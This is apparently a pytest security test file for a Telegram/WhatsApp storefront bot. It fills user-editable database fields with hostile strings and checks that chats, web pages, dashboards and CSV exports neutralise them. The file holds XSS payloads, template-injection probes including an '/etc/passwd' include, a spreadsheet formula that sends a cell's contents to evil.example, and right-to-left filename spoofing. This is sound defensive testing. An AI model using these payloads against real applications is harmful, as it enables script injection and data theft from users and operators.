"""Every word a person can leave in the database, made hostile, and then everything that shows it."""

import csv
import io
import re
from typing import Any

import pytest
from sqlalchemy import select, update

from bots import play
from bots.hub import Simulated
from bots.notices import __name__ as _announced  # noqa: F401 - notices are looked up by name
from bots.visit import NOTICES
from storefront import rows
from storefront.models import (
    Deal,
    Destination,
    Identity,
    Media,
    OrderLine,
    OutboxMessage,
    Person,
    Product,
    Profile,
    Recipient,
    Shop,
    UsualAddress,
    Variant,
)
from tests.attacks.common import HOME, calm, forget_talks
from tests.conftest import OPEN_SHOP, STORIES, tell
from tests.visitors import Seat

THE_SALE = (STORIES / "the_sale.chat").read_text(encoding="utf-8")
HOSTILE = {
    "tags": '</b><a href="tg://resolve?domain=evil">Bayar</a><script>alert(1)</script><img src=x onerror=alert(2)>',
    "attributes": "\"'><svg/onload=alert(3)> javascript:alert(4) &lt;b&gt; &amp;",
    "formats": "{0.__class__} {kak} {product} %s%s%n %(name)s {{7*7}} ${7*7} {% include '/etc/passwd' %} <%= 7 %>",
    "formula": '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "formula behind a tab": "\t=1+1",
    "directions": "invoice\u202egnp.exe\u2066\u200b",
    "marks": "*LUNAS* _x_ ~y~ ```z``` [a](b) `c",
    "lines": "Sari\n\n1. Uang masuk\n▸ Kirim",
    "long": "Ω" * 300,
}
CHATS = {
    "tags, attributes and formats": HOSTILE["tags"] + HOSTILE["attributes"] + HOSTILE["formats"],
    "formulas, directions, marks and lines": "".join(HOSTILE[k] for k in ("formula", "directions", "marks", "lines")),
    "long": HOSTILE["long"],
}
WORDS = [
    "menu",
    "rekap",
    "komisi",
    "saldo",
    "cek 0001",
    "pesan lagi",
    "undang tetangga",
    "bayar komisi",
    "mau rekomendasi",
]
MORE = ["bicara dengan penjual", "batal", "hapus data saya", "batal", "basi bun", "english"]
PLACES: dict[Any, tuple[str, ...]] = {
    Profile: ("name",),
    Shop: ("name", "place", "city"),
    Product: ("name", "unit"),
    OrderLine: ("product_name", "variant_name", "unit"),
    Recipient: ("name", "address", "landmark"),
    UsualAddress: ("name", "address", "landmark"),
    Destination: ("holder", "brand", "mask"),
}
SAID = {"Dapur Rina", "Sari", "Dewi", "Rina", "loyang", "keju", "polos", "Brownies Kukus Pandan", "Griya Asri", "Depok"}


def lived(hub: Simulated, channel: str) -> play.Player:
    """A whole sale, so that there is a row in every place."""
    return tell(hub, THE_SALE, channel)


def poison(hub: Simulated, words: str) -> None:
    """The words in every column that somebody could have filled."""
    with hub.database.write() as db:
        for table, columns in PLACES.items():
            db.execute(update(table).values(dict.fromkeys(columns, words)))
        for variant in db.scalars(select(Variant)).all():
            db.execute(update(Variant).where(Variant.id == variant.id).values(name=f"{words} {variant.position}"))
        for one in db.scalars(select(Shop)).all():
            areas = [{**area, "label": words} for area in one.areas]
            db.execute(update(Shop).where(Shop.id == one.id).values(areas=areas))


def poisoned(value: Any, words: str) -> Any:
    """The facts of a notice with the words in every place where somebody's own stood."""
    if isinstance(value, dict):
        return {key: poisoned(one, words) for key, one in value.items()}
    if isinstance(value, list):
        return [poisoned(one, words) for one in value]
    is_said = isinstance(value, str) and (value in SAID or "Griya Asri" in value)
    return words if is_said else value


def tell_all_again(hub: Simulated, words: str) -> set[str]:
    """Every notice that was ever told, once more with the hostile words in it; the names of those."""
    with hub.database.write() as db:
        told = db.scalars(select(OutboxMessage).where(OutboxMessage.notice.is_not(None))).all()
        for one in told:
            common = {"person_id": one.person_id, "channel": one.channel, "address": one.address, "kind": "say"}
            times = {"created_at": hub.now(), "due_at": hub.now(), "attempts": 0, "state": "waiting"}
            rows.add(db, OutboxMessage, notice=one.notice, facts=poisoned(one.facts, words), **common, **times)
    hub.settle()
    return {one.notice or "" for one in told}


def looks(hub: Simulated) -> list[tuple[str, str]]:
    """Who may look at what, by every button that only shows something."""
    with hub.database.read() as db:
        shown = db.execute(select(OutboxMessage.address, OutboxMessage.screen)).all()
    return sorted(
        {(to, data) for to, s in shown if s for _, data, _ in s.get("choices", []) if data and data[:2] == "s:"}
    )


def press_all(hub: Simulated, channel: str) -> None:
    """On Telegram every way to look; on WhatsApp its words do."""
    if channel != "telegram":
        return
    names = {str(person.chat_id): name for name, person in hub.phones.telegram.people.items()}
    for address, data in looks(hub):
        forget_talks(hub.database)
        person = hub.phones.telegram.person(names[address])
        shown = next(bubble for bubble in reversed(person.bubbles) if not bubble.mine)
        hub.phones.telegram._call_back(person, hub.phones.telegram.messages[int(shown.id)], data)
        hub.settle()


def say_all(hub: Simulated, channel: str) -> None:
    for name in ("rina", "dewi", "sari"):
        for words in (*WORDS, *MORE):
            hub.phones.on(channel).says(name, words)
            hub.settle()
        forget_talks(hub.database)


def refused(hub: Simulated) -> list[tuple[str | None, str | None]]:
    with hub.database.read() as db:
        dead = select(OutboxMessage.notice, OutboxMessage.dead_reason).where(OutboxMessage.state != "sent")
        return [(notice, reason) for notice, reason in db.execute(dead)]


@pytest.mark.parametrize("channel", ["telegram", "whatsapp"])
@pytest.mark.parametrize("kind", CHATS)
def test_hostile_words_in_every_chat(hub: Simulated, kind: str, channel: str) -> None:
    """Nothing is refused by a phone that reads our HTML, nothing breaks, and no word of it becomes a link."""
    lived(hub, channel)
    begun = next(hub.phones.seq)
    poison(hub, CHATS[kind])

    with calm():
        assert len(tell_all_again(hub, CHATS[kind])) > 6
        say_all(hub, channel)
        press_all(hub, channel)

    assert refused(hub) == []
    fresh = [
        bubble
        for who in hub.phones.everybody()
        for bubble in hub.phones.bubbles(*who)
        if bubble.seq > begun and not bubble.mine
    ]
    assert not [link for bubble in fresh for link in bubble.links if link.startswith(("tg://resolve", "javascript"))]
    assert any(CHATS[kind][:25] in bubble.text for bubble in fresh)
    assert hub.verdict() == []


def addresses(player: play.Player) -> list[str]:
    """Every page of the sale, in both languages."""
    kept = [player.kept[name].removeprefix(HOME) for name in ("link", "invitation")]
    paths = ["/", "/books", "/s/dapur-rina", "/p/DR1", *kept, "/nothing", "/simulator", "/desk"]
    return [f"{path}?lang={lang}" for path in paths for lang in ("id", "en")]


RAW = ("<script>alert", "<img src=x", "<svg/onload", 'href="tg://', "href=tg:", 'href="javascript:', "\u202e")


def raw_in(page: str, kind: str) -> list[str]:
    """What of the words stands on a page as something a browser acts on."""
    found = [raw for raw in RAW if raw in page and not (raw == "\u202e" and kind == "directions")]
    return [*found, *re.findall(r"<script(?![^>]*\ssrc=)[^>]*>\s*\S", page)]


def test_hostile_words_on_every_page(hub: Simulated) -> None:
    player = lived(hub, "telegram")
    for kind, words in HOSTILE.items():
        poison(hub, words)
        for address in addresses(player):
            answer = hub.client.get(address, base_url=HOME)
            page = answer.get_data(as_text=True)
            assert answer.status_code in {200, 401, 404, 501}, (address, kind)
            assert raw_in(page, kind) == [], (address, kind)
            assert kind != "formats" or "{{7*7}}" in page or "7*7" not in page, address


SELLERS = ("", "/orders", "/orders/DR-0001", "/shelf", "/shelf/1", "/calendar", "/rounds/1", "/buyers", "/neighbours",
           "/payouts/1", "/reports", "/note")  # fmt: skip
CREATORS = ("", "/lines", "/orders/DR-0001", "/links", "/payouts", "/payouts/1", "/papers")
OPERATORS = ("", "/messages", "/disputes", "/shops", "/people", "/costs", "/words")


def test_hostile_words_on_every_page_inside(hub: Simulated) -> None:
    """A seller's own name is read by whoever runs the hub, a buyer's by the seller: none of it is a tag there."""
    lived(hub, "telegram")
    with hub.database.write() as db:
        owner, creator = db.scalars(select(Shop.owner_id)).one(), db.scalars(select(Deal.creator_id)).one()
        db.execute(update(Person).where(Person.id == owner).values(is_operator=True, keeps_hub_since=hub.now()))
    rina, dewi = Seat(hub, owner), Seat(hub, creator)
    walks = [(rina, f"/desk/dapur-rina{one}") for one in SELLERS] + [(dewi, f"/me{one}") for one in CREATORS]
    walks += [(rina, f"/hub{one}") for one in OPERATORS] + [(rina, "/sessions"), (dewi, "/sessions")]
    for kind, words in HOSTILE.items():
        poison(hub, words)
        for seat, address in walks:
            answer = seat.look(address)
            assert answer.status_code == 200, (address, kind)
            assert raw_in(answer.get_data(as_text=True), kind) == [], (address, kind)


def test_hostile_words_in_a_statement(hub: Simulated) -> None:
    """A table is opened by a program that calculates: no cell of it begins with what makes one calculate."""
    lived(hub, "telegram")
    for words in HOSTILE.values():
        poison(hub, words)
        tell(hub, "dewi@telegram says: komisi\ndewi@telegram taps: Unduh")
        links = [link for bubble in hub.phones.bubbles("dewi", "telegram") for link in bubble.links if ".csv" in link]

        answer = hub.client.get(links[-1].removeprefix(HOME), base_url=HOME)

        table = list(csv.reader(io.StringIO(answer.get_data(as_text=True))))
        assert answer.headers["Content-Disposition"].startswith("attachment")
        assert len(table) > 1
        assert not [cell for line in table for cell in line if cell[:1] in tuple("=+-@\t\r\n＝＋－＠")]


CAPTIONS = {
    "tags": "<script>alert(1)</script> brownies 65rb/loyang, <b>keju</b> +10rb, PO tutup kamis jam 8 mlm, max 20",
    "formats": "{0.__class__} %s brownies 65rb/loyang, PO tutup kamis jam 8 mlm, max 20",
    "a formula": "=HYPERLINK(x) brownies 65rb/loyang, PO tutup kamis jam 8 mlm, max 20",
    "a direction": "bro\u202ewnies 65rb/loyang, PO tutup kamis jam 8 mlm, max 20",
}


@pytest.mark.parametrize("channel", ["telegram", "whatsapp"])
@pytest.mark.parametrize("kind", CAPTIONS)
def test_a_hostile_shop_opened_in_the_chat(hub: Simulated, kind: str, channel: str) -> None:
    with calm():
        player = tell(
            hub,
            f"""
            rina@telegram sends photo: brownies.jpg | {CAPTIONS[kind]}
            rina@telegram says: <b>Dapur</b> "Rina" & {{kak}}, griya asri depok. sekompleks 5rb
            rina@telegram sends photo: sticker.png
            rina@telegram taps: Tayangkan
            rina@telegram keeps $link: (https?://\\S+/p/\\S+)
            sari@telegram opens: $link
            sari@telegram says: 1, antar griya asri C2/5 </b> %s, an <i>Sari</i>, qris
            sari@telegram taps: Sudah bayar
            rina@telegram says: rekap
            """,
            channel,
        )

    page = hub.client.get(player.kept["link"].removeprefix(HOME), base_url=HOME).get_data(as_text=True)
    assert "<script>alert" not in page
    assert "\u202e" not in page
    assert "&lt;b&gt;Dapur" in page
    assert refused(hub) == []
    assert hub.verdict() == []


def test_no_picture_of_a_person_has_a_page(hub: Simulated) -> None:
    """A proof shows somebody's account; only a product's photo is for everybody."""
    lived(hub, "telegram")
    with hub.database.read() as db:
        private = db.scalars(select(Media.token).where(Media.is_public.is_(False))).all()
        public = db.scalars(select(Media.token).where(Media.is_public.is_(True))).all()

    assert private
    assert {hub.client.get(f"/media/{token}.jpg", base_url=HOME).status_code for token in private} == {404}
    assert {hub.client.get(f"/media/{token}.jpg", base_url=HOME).status_code for token in public} == {200}


def test_every_notice_is_known_here() -> None:
    """Else a new one would be shown to nobody in this room."""
    assert len(NOTICES) > 25
    assert {"name"} <= set(PLACES[Profile]) <= set(Profile.__table__.columns.keys())
    assert Identity.__tablename__ == "identities"
    assert OPEN_SHOP
